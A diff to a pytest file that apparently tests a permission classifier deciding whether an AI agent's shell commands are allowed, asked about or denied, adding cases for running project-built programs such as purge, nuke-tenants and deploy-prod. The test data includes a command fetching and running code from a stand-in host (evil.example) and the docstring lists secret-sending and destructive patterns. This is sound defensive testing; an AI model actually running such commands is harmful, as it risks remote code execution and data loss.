@@ -11,7 +11,10 @@
   protected mode off, MongoDB with no auth, an FTP server that takes uploads) is refused unless asked in so many words;
 * code written in Dart / Flutter and C / C++ is read like the other languages' (`shell.code_vocab`): a request
   carrying the environment or a secret variable, a recursive delete of the home directory, certificate checks
-  turned off; ordinary requests, sockets and file reads in those languages are not.
+  turned off; ordinary requests, sockets and file reads in those languages are not;
+* a program the project built for an act and runs by name (`cargo run --bin purge`, `go run ./cmd/nuke-tenants`,
+  `dotnet run --project tools/Purge`) is read like a task of that name; building it is not, and `go run main.go`
+  runs a file of this module, not a module fetched from a host.
 """
 
 from __future__ import annotations
@@ -100,4 +103,27 @@ DAEMONS = [
 
 @pytest.mark.parametrize("cmd,said,want", DAEMONS, ids=[c[0][:60] for c in DAEMONS])
 def test_daemons_and_file_servers(cmd: str, said: str, want: str) -> None:
+    expect(decide("Bash", cmd, said), want, cmd)
+
+
+#: Programs a project built for an act, run by name (`knowledge/tasks.RUNNERS`), and Go files of this module.
+RUNS = [
+    ("cargo run --bin purge -- --all", OTHER_EDIT, "ask"),
+    ("go run ./cmd/nuke-tenants", OTHER_EDIT, "ask"),
+    ("dotnet run --project tools/Purge", OTHER_EDIT, "ask"),
+    ("cargo run --bin deploy-prod", OTHER_EDIT, "deny"),
+    ("cargo run --example send_newsletter", OTHER_EDIT, "not-allow"),
+    ("cargo build --bin purge", OTHER_EDIT, "allow"),
+    ("go build ./cmd/deploy", OTHER_EDIT, "allow"),
+    ("dotnet build --project tools/Purge", OTHER_EDIT, "allow"),
+    ("cargo run --release -- --port 8080", OTHER_EDIT, "allow"),
+    ("go run ./cmd/api", OTHER_EDIT, "allow"),
+    ("go run main.go", OTHER_EDIT, "allow"),
+    ("go run evil.example/x/cmd@latest", OTHER_EDIT, "ask"),
+    ("cargo run --bin purge -- --all", "run the purge binary with --all to clear the stale sessions", "allow"),
+]
+
+
+@pytest.mark.parametrize("cmd,said,want", RUNS, ids=[c[0][:60] for c in RUNS])
+def test_programs_run_by_name(cmd: str, said: str, want: str) -> None:
     expect(decide("Bash", cmd, said), want, cmd)
